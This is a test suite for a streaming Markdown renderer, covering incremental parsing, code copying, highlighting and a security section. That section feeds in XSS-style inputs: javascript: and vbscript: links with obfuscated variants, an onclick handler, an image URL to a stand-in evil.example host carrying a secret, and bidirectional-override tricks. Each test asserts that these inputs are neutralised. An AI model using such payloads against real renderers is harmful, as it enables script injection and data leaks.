import { fireEvent, render, screen, waitFor } from '@testing-library/react'
import { afterEach, describe, expect, it, vi } from 'vitest'
import { append, blocks, EMPTY, finish, lex, type MarkdownState } from '@/lib/markdown/incremental'
import { Markdown } from '@/lib/markdown/markdown'
import { decodeEntities, hostToShow, safeHref, showControls } from '@/lib/markdown/safe'
import { PAYLOADS } from './payloads'
import { SAMPLES } from './samples'

afterEach(() => document.body.replaceChildren())

const stream = (text: string, cuts: number[]): MarkdownState => {
  let state = EMPTY
  let from = 0
  for (const to of [...cuts, text.length]) {
    state = append(state, text.slice(from, to))
    from = to
  }
  return state
}
/** The document as tokens that matter for what is shown. */
const shown = (list: readonly { token: { type: string; raw: string } }[]) =>
  list.map(({ token }) => token).filter(token => token.type !== 'space')
const html = (text: string, done = true) => {
  const view = render(<Markdown text={text} done={done} />)
  const out = view.container.innerHTML
  view.unmount()
  return out
}

function random(seed: number) {
  return () => (seed = (seed * 1664525 + 1013904223) >>> 0) / 4294967296
}

describe('streamed Markdown', () => {
  it.each(Object.entries(SAMPLES))('is the final document, however it was cut: %s', (_, text) => {
    const final = shown(lex(text).map((token, at) => ({ at, token })))
    const next = random(text.length)
    for (let round = 0; round < 25; round++) {
      const cuts = Array.from({ length: Math.ceil(next() * 12) }, () => Math.floor(next() * text.length)).sort(
        (a, b) => a - b,
      )
      expect(shown(finish(stream(text, cuts))), `cut at ${cuts.join(', ')}`).toEqual(final)
    }
  })

  it.each(Object.entries(SAMPLES))('shows the same before the last lex, but for reference links: %s', (name, text) => {
    if (name === 'references') return
    const state = stream(
      text,
      Array.from({ length: text.length - 1 }, (_, at) => at + 1),
    )
    expect(shown(blocks(state))).toEqual(shown(lex(text).map((token, at) => ({ at, token }))))
  })

  it('holds for text made at random from what is special', () => {
    const next = random(42)
    const parts = [
      '# a\n',
      '- b\n',
      '1. c\n',
      '```js\n',
      '```\n',
      '~~~\n',
      'text ',
      '\n',
      '\n\n',
      '> q\n',
      '| a | b |\n',
      '| - | - |\n',
      '    code\n',
      '***x***',
      '[l](http://h)',
      '<div>',
      '</div>\n',
      '---\n',
      '===\n',
      '`',
      '  ',
      '\t',
    ]
    for (let round = 0; round < 300; round++) {
      const text = Array.from(
        { length: 2 + Math.floor(next() * 14) },
        () => parts[Math.floor(next() * parts.length)],
      ).join('')
      const cuts = Array.from({ length: 6 }, () => Math.floor(next() * text.length)).sort((a, b) => a - b)
      expect(shown(finish(stream(text, cuts))), JSON.stringify([text, cuts])).toEqual(
        shown(lex(text).map((token, at) => ({ at, token }))),
      )
    }
  })

  it('freezes what is settled: the same objects, also after the last lex', () => {
    const text = 'one\n\ntwo\n\nthree\n\nfour\n\nfive\n\nsix'
    const early = append(EMPTY, text)
    const late = append(early, ' and more')
    expect(early.settled.length).toBeGreaterThan(2)
    expect(late.settled.slice(0, early.settled.length).every((block, at) => block === early.settled[at])).toBe(true)
    expect(finish(late)[0]).toBe(late.settled[0])
  })

  it('lexes only what is open: a long document costs what its end costs', () => {
    let state = EMPTY
    for (let at = 0; at < 400; at++) state = append(state, `Paragraph ${at}.\n\n`)
    expect(state.text.length - state.tailAt).toBeLessThan(60)
  })

  it('appends lines to an open fence without lexing', () => {
    let state = append(EMPTY, 'Before\n\n```py\n')
    for (let at = 0; at < 50; at++) state = append(state, `line ${at}\n`)
    expect(state.fence).toBeDefined()
    const code = blocks(state).at(-1)?.token as unknown as { text: string; lang: string }
    expect([code.lang, code.text.split('\n').length]).toEqual(['py', 50])
    state = append(state, '```\n\nAfter')
    expect(state.fence).toBeUndefined()
    expect(shown(blocks(state)).map(token => token.type)).toEqual(['paragraph', 'code', 'paragraph'])
  })

  it('takes line ends of any system, also cut in two', () => {
    expect(shown(finish(stream('a\r\nb\r\n\r\nc\rd', [2, 6, 7, 9]))).map(token => token.raw)).toEqual(['a\nb', 'c\nd'])
  })

  it('adds nothing for nothing', () => expect(append(EMPTY, '')).toBe(EMPTY))
})

describe('what an answer may do', () => {
  it.each(PAYLOADS.map(payload => [payload]))('runs nothing: %s', payload => {
    for (const text of [payload, `**${payload}**`, `- ${payload}`, `| a |\n| - |\n| ${payload} |`]) {
      const view = render(<Markdown text={text} done />)
      const { container } = view
      expect(
        container.querySelectorAll(
          'script, iframe, object, embed, img, svg, style, link, meta, base, form, video, audio, math, template, details',
        ),
      ).toHaveLength(0)
      for (const element of container.querySelectorAll('*')) {
        for (const { name, value } of element.attributes) {
          expect(name).not.toMatch(/^on/i)
          if (name === 'href') expect(value).toMatch(/^(https?:|mailto:)/)
          if (name === 'src' || name === 'srcdoc') throw new Error(`${name} must not be`)
        }
      }
      view.unmount()
    }
  })

  it('shows raw HTML as the text it is', () => {
    expect(html('<b onclick="x()">hi</b>')).toContain('&lt;b onclick="x()"&gt;')
    expect(html('<div>\n<p>x</p>\n</div>')).toContain('&lt;div&gt;')
  })

  it('never loads an image: it becomes a link that says so', () => {
    const out = html('![a chart](https://evil.example/x.png?text=secret)')
    expect(out).not.toContain('<img')
    expect(out).toContain('Image: a chart')
    expect(out).toContain('(evil.example)')
    expect(html('![](data:image/png;base64,xx)')).toContain('Image: without a name')
  })

  it('says where a link leads when its text does not', () => {
    expect(html('[your bank](https://evil.example/login)')).toMatch(
      /href="https:\/\/evil\.example\/login"[^>]*rel="noopener noreferrer nofollow"/,
    )
    expect(html('[your bank](https://evil.example/login)')).toContain('(evil.example)')
    expect(html('https://good.example/x')).not.toContain('(good.example)')
    expect(html('[write](mailto:a@b.example)')).not.toContain('(')
  })

  it.each([
    ['https://a.example/b', 'https://a.example/b'],
    ['mailto:a@b.c', 'mailto:a@b.c'],
    ['javascript:alert(1)', undefined],
    ['java\nscript:alert(1)', undefined],
    ['\u0001javascript:alert(1)', undefined],
    ['JaVaScRiPt:alert(1)', undefined],
    ['data:text/html,x', undefined],
    ['vbscript:x', undefined],
    ['blob:https://a/b', undefined],
    ['/relative', undefined],
    ['//host/x', undefined],
    ['', undefined],
  ])('a link to %j leads to %s', (href, to) => expect(safeHref(href)).toBe(to))

  it('shows the host of an address, not of a letter', () => {
    expect(hostToShow('https://a.example/x', 'see a.example')).toBeUndefined()
    expect(hostToShow('https://a.example/x', 'see')).toBe('a.example')
  })

  it('makes hidden direction controls visible', () => {
    expect(showControls('abc\u202egnp.exe')).toBe('abc[U+202E]gnp.exe')
    expect(html('pay \u2066now\u2069')).toContain('[U+2066]')
  })

  it.each([
    ['&amp;&lt;&gt;&quot;', '&<>"'],
    ['&#65;&#x42;&nbsp;', 'AB\u00a0'],
    ['&unknown; & &#0; &#xD800; &#9999999;', '&unknown; & \ufffd \ufffd \ufffd'],
    ['plain', 'plain'],
  ])('reads the references in %j', (text, plain) => expect(decodeEntities(text)).toBe(plain))
})

describe('the drawing', () => {
  it('has every kind of block', () => {
    const out = html(SAMPLES.everything ?? '')
    for (const tag of [
      '<h3',
      '<h5',
      '<ul',
      '<ol',
      '<li',
      '<blockquote',
      '<table',
      '<th',
      '<pre',
      '<hr',
      '<strong',
      '<em',
      '<del',
      '<code',
      '<br',
      'type="checkbox"',
    ])
      expect(out, tag).toContain(tag)
    expect(out).toContain('start="3"')
  })

  it('puts long answers into groups that the browser may skip', () => {
    const text = Array.from({ length: 120 }, (_, at) => `p${at}`).join('\n\n')
    const view = render(<Markdown text={text} done />)
    // 120 paragraphs and the 119 spaces between them, by fifty.
    expect(view.container.firstElementChild?.children).toHaveLength(5)
    view.unmount()
  })

  it('grows with its text, begins anew with another, and keeps the cursor at the end', () => {
    const view = render(<Markdown text="Hel" done={false} />)
    view.rerender(<Markdown text="Hello **wor" done={false} />)
    expect(view.container.textContent).toBe('Hello **wor')
    view.rerender(<Markdown text={'Hello **wor\n\nIt'} done={false} />)
    expect(view.container.querySelectorAll('p')).toHaveLength(2)
    view.rerender(<Markdown text="Hello **world**" done />)
    expect(view.container.textContent).toBe('Hello world')
    view.rerender(
      <Markdown text="Other" done={false}>
        <i>▍</i>
      </Markdown>,
    )
    expect(view.container.textContent).toBe('Other▍')
  })

  it('copies code, and colours known languages when it has rest', async () => {
    const write = vi.spyOn(navigator.clipboard, 'writeText').mockResolvedValue()
    const view = render(
      <Markdown text={'```python\ndef f():\n    return "x" # note\n```\n\n```nolanguage\nx\n```'} done />,
    )
    fireEvent.click(screen.getAllByText('Copy')[0] as HTMLElement)
    await screen.findByText('Copied')
    expect(write).toHaveBeenCalledWith('def f():\n    return "x" # note')
    fireEvent.blur(screen.getByText('Copied'))
    await waitFor(() => expect(view.container.querySelector('code span.font-medium')?.textContent).toBe('def'), {
      timeout: 3000,
    })
    expect(view.container.querySelectorAll('code')[1]?.innerHTML).toBe('x')
    view.unmount()
  })

  it('colours code as soon as nothing can be added to it', async () => {
    const code = '```python\ndef f():\n```'
    const first = render(<Markdown text={code} done />)
    const coloured = (view: typeof first) => view.container.querySelector('code span.font-medium')?.textContent
    await waitFor(() => expect(coloured(first)).toBe('def'), { timeout: 3000 })
    first.unmount()
    const view = render(<Markdown text={code} done={false} />)
    expect(coloured(view)).toBeUndefined()
    view.rerender(<Markdown text={code} done />)
    expect(coloured(view)).toBe('def')
    view.unmount()
  })
})
